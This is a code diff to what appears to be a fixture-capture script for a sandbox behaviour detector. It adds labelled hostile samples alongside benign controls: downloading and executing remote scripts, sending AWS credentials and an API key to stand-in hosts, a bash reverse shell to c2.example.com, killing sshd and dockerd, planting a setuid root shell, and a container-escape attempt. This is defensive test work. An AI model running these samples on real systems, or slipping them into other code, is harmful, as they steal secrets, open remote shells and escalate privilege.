@@ -147,8 +147,97 @@ def tokens_of(result: dict) -> honeytokens.Honeytokens:
     return honeytokens.from_job(result["_job"]["honeytokens"])
 
 
-def capture() -> None:
-    """Refresh the fixtures from the corpus next to this file (benign/, hostile/) and a few extras."""
+# Samples beyond the shared corpus, for behaviours the corpus does not show (name -> code, language, expected).
+EXTRA = {
+    "download_execute_file": ("""
+import os, stat, subprocess, urllib.request
+body = urllib.request.urlopen("http://updates.example.com/install.sh", timeout=3).read()
+with open("/tmp/install.sh", "wb") as fh:
+    fh.write(body)
+os.chmod("/tmp/install.sh", 0o755)
+subprocess.run(["/tmp/install.sh"])
+""", "python", "download_execute"),
+    "download_exec_in_memory": ("""
+import urllib.request
+exec(urllib.request.urlopen("http://cdn.example.net/stage2.py", timeout=3).read())
+""", "python", "download_execute"),
+    "http_exfiltration": ("""
+import os, base64, urllib.request
+data = base64.b64encode(open(os.path.expanduser("~/.aws/credentials"), "rb").read())
+urllib.request.urlopen(urllib.request.Request("http://collector.example.org/u", data=data), timeout=3).read()
+""", "python", "exfiltration"),
+    "env_key_exfiltration": ("""
+import os, socket
+key = os.environ["OPENAI_API_KEY"]
+s = socket.create_connection(("paste.example.com", 443), timeout=3)
+s.sendall(key.encode())
+s.close()
+""", "python", "exfiltration"),
+    "kill_decoy": ("""
+import os, signal
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        try:
+            name = open(f"/proc/{pid}/comm").read().strip()
+        except OSError:
+            continue
+        if name in ("sshd", "dockerd"):
+            os.kill(int(pid), signal.SIGTERM)
+""", "python", "process.tamper"),
+    "setuid_bit": ("""
+import os, shutil
+shutil.copy("/bin/sh", "/tmp/rootsh")
+os.chmod("/tmp/rootsh", 0o4755)
+""", "python", "privilege.escalation"),
+    "unshare_mount": ("""
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+print(libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
+print(libc.mount(b"none", b"/mnt", b"tmpfs", 0, None), ctypes.get_errno())
+""", "python", "container.escape_attempt"),
+    "huge_mmap": ("""
+import mmap
+try:
+    m = mmap.mmap(-1, 8 << 30)
+except OSError as exc:
+    print(exc)
+""", "python", "resource.memory"),
+    "shell_spawn": ("""
+import subprocess
+print(subprocess.run("echo hello | tr a-z A-Z", shell=True, capture_output=True, text=True).stdout)
+""", "python", "process.spawn_shell"),
+    "bash_reverse_shell": ("""
+bash -c 'bash -i >& /dev/tcp/c2.example.com/4444 0>&1' 2>/dev/null
+""", "bash", "reverse_shell"),
+    "benign_stdlib_and_os_release": ("""
+import json, os, platform, tempfile, csv, sqlite3
+print(open("/etc/os-release").read().splitlines()[0])
+print(open("/proc/self/status").read().splitlines()[0])
+with tempfile.NamedTemporaryFile("w", suffix=".csv", delete=False) as fh:
+    csv.writer(fh).writerows([[1, 2], [3, 4]])
+db = sqlite3.connect("/work/data.db")
+db.execute("create table t (a, b)")
+db.executemany("insert into t values (?, ?)", [(1, 2), (3, 4)])
+db.commit()
+print(sum(a for a, b in db.execute("select a, b from t")), platform.python_version(), json.dumps({"ok": True}))
+os.remove(fh.name)
+""", "python", "clean"),
+    "benign_threads_and_eval": ("""
+import threading, collections
+Point = collections.namedtuple("Point", "x y")
+out = []
+threads = [threading.Thread(target=lambda i=i: out.append(Point(i, eval("i * 2")))) for i in range(4)]
+for t in threads:
+    t.start()
+for t in threads:
+    t.join()
+print(sorted(out))
+""", "python", "clean"),
+}
+
+
+def capture(only: str | None = None) -> None:
+    """Refresh the fixtures from the corpus next to this file (benign/, hostile/) and EXTRA."""
     here = Path(__file__).resolve().parent
     timeouts = {"cpu_spin": 2.0, "stdout_flood": 2.0, "fork_bomb": 3.0, "memory_bomb": 3.0, "disk_fill": 4.0,
                 "daemon_outlives_parent": 3.0}
@@ -158,12 +247,20 @@ def capture() -> None:
             if src.suffix not in (".py", ".sh"):
                 continue
             name = src.stem
+            if only and only not in name:
+                continue
             result = run(src.read_text(), language="python" if src.suffix == ".py" else "bash",
                          timeout=timeouts.get(name, 4.0), rlimits=limits.get(name),
                          stdout_cap=64 << 10, trace_cap=20_000)
             print(name, len(result["trace"]), "lines", save_fixture(f"{folder}_{name}", result).stat().st_size, "bytes")
+    for name, (code, language, expected) in EXTRA.items():
+        if only and only not in name:
+            continue
+        result = run(f"# expect: {expected}\n" + code.lstrip("\n"), language=language, timeout=6.0,
+                     stdout_cap=64 << 10, trace_cap=20_000)
+        print(name, len(result["trace"]), "lines", save_fixture(f"extra_{name}", result).stat().st_size, "bytes")
 
 
 if __name__ == "__main__":
     if len(sys.argv) > 1 and sys.argv[1] == "capture":
-        capture()
+        capture(*sys.argv[2:])
